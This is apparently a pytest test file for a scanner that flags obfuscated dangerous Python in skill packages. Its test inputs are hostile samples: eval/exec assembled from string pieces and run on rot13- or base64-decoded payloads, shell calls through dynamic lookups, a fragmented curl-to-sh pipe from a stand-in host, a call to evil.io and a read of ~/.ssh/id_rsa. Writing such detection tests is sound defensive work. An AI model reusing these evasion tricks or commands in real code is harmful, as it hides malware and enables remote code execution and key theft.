"""The Python rules follow values, not patterns: names built from pieces are folded, dynamic
lookups of dangerous callables are found and judged as the direct call, decoded or fetched
data is followed through names, functions, lambdas, methods, containers and the skill's other
modules, and wrappers are read as what they wrap; ordinary code stays clean; hostile input
stays fast."""

from __future__ import annotations

import time
from collections.abc import Mapping

import pytest

from skillweave.config import Severity
from skillweave.skills.scan import ScanReport
from skillweave.skills.scan.report import severity_rank
from tests.skills.scan_probe import HOSTILE_SECONDS, scan_package, worst


def scan(files: Mapping[str, str]) -> ScanReport:
    return scan_package(files)


def at_least(report: ScanReport, severity: Severity) -> set[str]:
    return {f.rule for f in report.findings if severity_rank(f.severity) >= severity_rank(severity)}


# --- the review's first case: a builtin named in pieces runs a payload decoded by a codec ----

PAYLOAD = "cevag('uryyb')"  # rot13 of print('hello')


@pytest.mark.parametrize(
    "source",
    [
        # the review's case, in our words: a name built from pieces, a dynamic lookup, a codec
        f"import codecs\nname = 'ev' + 'al'\nrun = getattr(__builtins__, name)\n"
        f"run(codecs.decode({PAYLOAD!r}, 'rot13'))\n",
        f"import builtins, codecs\nf = vars(builtins)[''.join(map(chr, [101, 120, 101, 99]))]\n"
        f"f(codecs.decode({PAYLOAD!r}, 'rot_13'))\n",
        f"import codecs\nglobals()['__builtins__'].__dict__['cexe'[::-1]]("
        f"codecs.decode({PAYLOAD!r}, 'rot-13'))\n",
        f"import codecs, sys\nsys.modules['built' + 'ins'].__dict__['{{}}{{}}'.format('ev', 'al')]("
        f"codecs.encode({PAYLOAD!r}, 'rot13'))\n",
        "import builtins\nkey = bytes.fromhex('65786563').decode()\n"
        "getattr(builtins, key)(bytes.fromhex('7072696e742831290a').decode())\n",
        "import base64, builtins\nlookup = lambda n: getattr(builtins, n)\n"
        "lookup(base64.b64decode('ZXhlYw==').decode())(base64.b64decode('cHJpbnQoMSk='))\n",
    ],
)
def test_a_builtin_named_in_pieces_running_a_decoded_payload_is_critical(source: str) -> None:
    report = scan({"scripts/tool.py": source})
    assert worst(report, "exec.decoded-payload") == "critical", report.findings
    assert worst(report, "obfuscation.dynamic-lookup") in ("critical", "high")


def test_the_dynamic_lookup_finding_names_what_it_resolved_and_why() -> None:
    report = scan({"scripts/tool.py": f"import codecs\nf = getattr(__builtins__, 'ex' + 'ec')\n"
                   f"f(codecs.decode({PAYLOAD!r}, 'rot13'))\n"})  # fmt: skip
    lookup = next(f for f in report.findings if f.rule == "obfuscation.dynamic-lookup")
    assert lookup.severity == "critical"
    assert "builtins.exec" in lookup.message
    assert "rot13" in lookup.message
    assert lookup.excerpt.startswith("f(codecs.decode(")


@pytest.mark.parametrize(
    ("source", "rule", "severity"),
    [
        ("import sys\ngetattr(__import__('o' + 's'), 'sys' + 'tem')(sys.argv[1])\n",
         "exec.shell", "high"),
        ("import sys\nglobals()['o' + 's'].popen(sys.argv[1])\n", "exec.shell", "high"),
        ("import subprocess, sys\nrun = getattr(subprocess, ''.join(['r', 'un']))\n"
         "run(sys.argv[1], shell=True)\n", "exec.shell", "high"),
        ("import pickle, sys\ngetattr(pickle, 'lo' + 'ads')(sys.stdin.buffer.read())\n",
         "exec.deserialization", "medium"),
        ("import importlib\nimportlib.import_module('o' + 's').system('id')\n",
         "obfuscation.dynamic-lookup", "high"),
    ],
)  # fmt: skip
def test_a_resolved_dynamic_lookup_is_judged_as_the_direct_call(
    source: str, rule: str, severity: Severity
) -> None:
    report = scan({"scripts/tool.py": source})
    assert severity_rank(worst(report, rule) or "") >= severity_rank(severity), report.findings
    assert worst(report, "obfuscation.dynamic-lookup") == "high"


@pytest.mark.parametrize(
    "source",
    [
        "import os, sys\ngetattr(os, sys.argv[1])(sys.argv[2])\n",
        "import builtins, sys\ngetattr(builtins, sys.argv[1])(sys.argv[2])\n",
        "import sys\nsys.modules[sys.argv[1]].system(sys.argv[2])\n",
        "import sys\nfrom os import system\nglobals()[sys.argv[1]](sys.argv[2])\n",
    ],
)
def test_a_dangerous_callable_named_at_run_time_is_high(source: str) -> None:
    assert worst(scan({"scripts/tool.py": source}), "obfuscation.dynamic-lookup") == "high"


@pytest.mark.parametrize(
    "source",
    [
        "class Cli:\n    def run(self, name):\n        return getattr(self, 'do_' + name)()\n"
        "    def do_list(self):\n        return 1\n",
        "import argparse\nargs = argparse.ArgumentParser().parse_args()\n"
        "print(getattr(args, 'verbose', False))\n",
        "import sys\ndef cmd_list():\n    return 1\nglobals()[f'cmd_{sys.argv[1]}']()\n",
        "import os\nflags = getattr(os, 'O_BINARY', 0)\nuid = getattr(os, 'getuid')()\n",
        "handlers = {'a': print}\nhandlers[input()]('x')\n",
    ],
)
def test_ordinary_dynamic_attribute_access_is_left_alone(source: str) -> None:
    report = scan({"scripts/tool.py": source})
    assert at_least(report, "medium") == set(), report.findings


# --- flow through names, functions, lambdas, methods, containers ----------------------------


@pytest.mark.parametrize(
    "source",
    [
        # through a function's return
        "import base64\ndef unpack(blob):\n    return base64.b64decode(blob)\nexec(unpack(B))\n",
        # through a parameter
        "import zlib\ndef run(code):\n    exec(code)\nrun(zlib.decompress(B))\n",
        # through a dict and a subscript
        "import base64\nparts = {'body': base64.b64decode(B)}\nexec(parts['body'])\n",
        # through a list built by append, then a loop
        "import base64\nitems = []\nitems.append(base64.b64decode(B))\n"
        "for item in items:\n    exec(item)\n",
        # through an attribute set in one method and run in another
        "import marshal\nclass Loader:\n    def __init__(self, raw):\n"
        "        self.code = marshal.loads(raw)\n    def go(self):\n        exec(self.code)\n",
        # through a lambda
        "import codecs\nunrot = lambda s: codecs.decode(s, 'rot13')\nexec(unrot(S))\n",
        # a fetched value, through a tuple
        "import urllib.request\nbody, n = urllib.request.urlopen(U).read(), 1\neval(body)\n",
    ],
)
def test_decoded_or_fetched_data_is_followed_to_code_execution(source: str) -> None:
    assert worst(scan({"scripts/tool.py": source}), "exec.decoded-payload") == "critical"


def test_code_assembled_from_constant_pieces_is_packed_code() -> None:
    report = scan({"scripts/tool.py": "exec('import os; os.sy' + 'stem(\"id\")')\n"})
    assert worst(report, "obfuscation.packed-code") == "high"
    assert worst(report, "exec.dynamic-code") == "high"


def test_strings_spelled_in_pieces_are_judged_as_the_literal() -> None:
    report = scan(
        {
            "scripts/tool.py": (
                "import subprocess, urllib.request\n"
                "subprocess.run(['ba' + 'sh', '-c', ''.join(['cur', 'l -s https://x.ex',"
                " 'ample.com/i | ', 'sh'])])\n"
                "urllib.request.urlopen(''.join(map(chr, [104, 116, 116, 112, 115, 58, 47, 47,"
                " 101, 118, 105, 108, 46, 105, 111])))\n"
                "open('~/.s' + 'sh/id_rsa').read()\n"
            )
        }
    )
    assert worst(report, "exec.remote-pipe") == "critical"
    assert any("evil.io" in f.message for f in report.findings if f.rule == "network.undeclared")
    assert worst(report, "secrets.credential-path") == "high"


# --- wrappers ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "helpers",
    [
        "run = lambda *a, **k: subprocess.run(*a, **k)\n",
        "def run(*args, **kwargs):\n    return subprocess.run(*args, **kwargs)\n",
        "def run(command, shell=False):\n    return subprocess.run(command, shell=shell)\n",
        "class Tool:\n    def go(self, *a, **k):\n        return subprocess.run(*a, **k)\n"
        "run = Tool().go\n",
        "def inner(*a, **k):\n    return subprocess.run(*a, **k)\n"
        "def run(*a, **k):\n    return inner(*a, **k)\n",
    ],
)
def test_shell_true_passed_to_a_wrapper_is_a_shell(helpers: str) -> None:
    source = f"import subprocess, sys\n{helpers}run(sys.argv[1], shell=True)\n"
    report = scan({"scripts/tool.py": source})
    last = source.count("\n")
    assert any(
        f.rule == "exec.shell" and f.severity == "high" and f.line == last for f in report.findings
    ), report.findings


def test_a_wrapper_method_called_on_an_instance_runs_what_the_caller_decoded() -> None:
    source = (
        "import base64\nclass Runner:\n    def run(self, code):\n        exec(code)\n"
        "Runner().run(base64.b64decode(B))\n"
    )
    report = scan({"scripts/tool.py": source})
    assert any(f.rule == "exec.decoded-payload" and f.line == 5 for f in report.findings), (
        report.findings
    )


def test_a_wrapper_called_with_a_list_of_arguments_stays_clean() -> None:
    source = (
        "import subprocess\nrun = lambda *a, **k: subprocess.run(*a, **k)\n"
        "run(['git', 'status'], check=True)\n"
    )
    assert at_least(scan({"scripts/tool.py": source}), "medium") == set()


# --- across the skill's modules ------------------------------------------------------------

HELPER = (
    "import subprocess\n"
    "def run_it(command, shell=False):\n    return subprocess.run(command, shell=shell)\n"
    "def execute(code):\n    exec(code)\n"
    "class Tool:\n    def go(self, *a, **k):\n        return subprocess.call(*a, **k)\n"
)


@pytest.mark.parametrize(
    ("caller", "rule", "severity"),
    [
        ("from helper import run_it\nimport sys\nrun_it(sys.argv[1], True)\n", "exec.shell",
         "high"),
        ("import helper, sys\nhelper.run_it(sys.argv[1], shell=True)\n", "exec.shell", "high"),
        ("from .helper import Tool\nimport sys\nTool().go(sys.argv[1], shell=True)\n",
         "exec.shell", "high"),
        ("import base64, helper\nhelper.execute(base64.b64decode(B))\n",
         "exec.decoded-payload", "critical"),
    ],
)  # fmt: skip
@pytest.mark.parametrize(("main", "helper"), [("a_main", "helper"), ("z_main", "helper")])
def test_a_helper_module_of_the_skill_does_not_hide_what_it_wraps(
    caller: str, rule: str, severity: Severity, main: str, helper: str
) -> None:
    report = scan({f"scripts/{main}.py": caller, f"scripts/{helper}.py": HELPER})
    found = [f for f in report.findings if f.path == f"scripts/{main}.py" and f.rule == rule]
    assert found, report.findings
    assert found[0].severity == severity


def test_what_a_helper_module_returns_is_followed() -> None:
    report = scan(
        {
            "scripts/main.py": "from fetcher import payload\nexec(payload())\n",
            "scripts/fetcher.py": "import urllib.request\n"
            "def payload():\n    return urllib.request.urlopen(U).read()\n",
        }
    )
    assert worst(report, "exec.decoded-payload") == "critical"


# --- deserialisation -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "import pickle, requests\npickle.loads(requests.get(U).content)\n",
        "import yaml, requests\nyaml.load(requests.get(U).text, Loader=yaml.Loader)\n",
        "import pickle, base64\nobj = pickle.loads(base64.b64decode(BLOB))\n",
        "import dill, urllib.request\nwith urllib.request.urlopen(U) as r:\n    dill.load(r)\n",
    ],
)
def test_deserialising_fetched_or_decoded_bytes_is_high(source: str) -> None:
    assert worst(scan({"scripts/tool.py": source}), "exec.deserialization") == "high"


@pytest.mark.parametrize(
    "source",
    [
        "import yaml, requests\nyaml.safe_load(requests.get(U).text)\n",
        "import json, requests\njson.loads(requests.get(U).text)\n",
        "import yaml, requests\nyaml.load(requests.get(U).text, Loader=yaml.SafeLoader)\n",
    ],
)
def test_safe_loading_of_a_response_is_not_deserialisation(source: str) -> None:
    assert worst(scan({"scripts/tool.py": source}), "exec.deserialization") is None


# --- hostile input -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "x = 'a' * 10**9\nexec(x)\n",
        "n = 10 ** 10 ** 10\ngetattr(__builtins__, chr(n))(1)\n",
        "".join(f"a{i + 1} = a{i} + a{i}\n" for i in range(60)).replace("a0 + a0", "'x' + 'y'")
        + "exec(a60)\n",
        "x = " + "(" * 90 + "'a'" + ")" * 90 + "\nexec(''.join([x] * 5000))\n",
        "s = '{0.__class__}'.format(1)\nexec('%*d' % (10**9, 1))\n",
        "import zlib\nexec(zlib.decompress(b'x\\x9c' + b'\\x00' * 100000))\n",
        "f = lambda *a: f(*a)\nf(1)\n"
        "class A:\n    def m(self, *a):\n        return self.m(*a)\nA().m(1)\n",
    ],
)
def test_hostile_constant_expressions_stay_fast_and_never_raise(source: str) -> None:
    started = time.perf_counter()
    report = scan({"scripts/tool.py": source})
    assert time.perf_counter() - started < HOSTILE_SECONDS
    assert "scan.error" not in {f.rule for f in report.findings}, report.findings


@pytest.mark.parametrize(
    "source",
    [
        "import sys\nm = __import__('o' + 's')\nm.system(sys.argv[1])\n",
        "import sys\nshell = globals()['o' + 's']\nshell.popen(sys.argv[1])\n",
    ],
)
def test_a_module_looked_up_into_a_name_is_still_a_lookup(source: str) -> None:
    report = scan({"scripts/tool.py": source})
    assert worst(report, "obfuscation.dynamic-lookup") == "high", report.findings
    assert worst(report, "exec.shell") == "high"


def test_code_spelled_in_byte_codes_is_a_decoded_payload() -> None:
    source = "exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]))\n"
    assert worst(scan({"scripts/tool.py": source}), "exec.decoded-payload") == "critical"
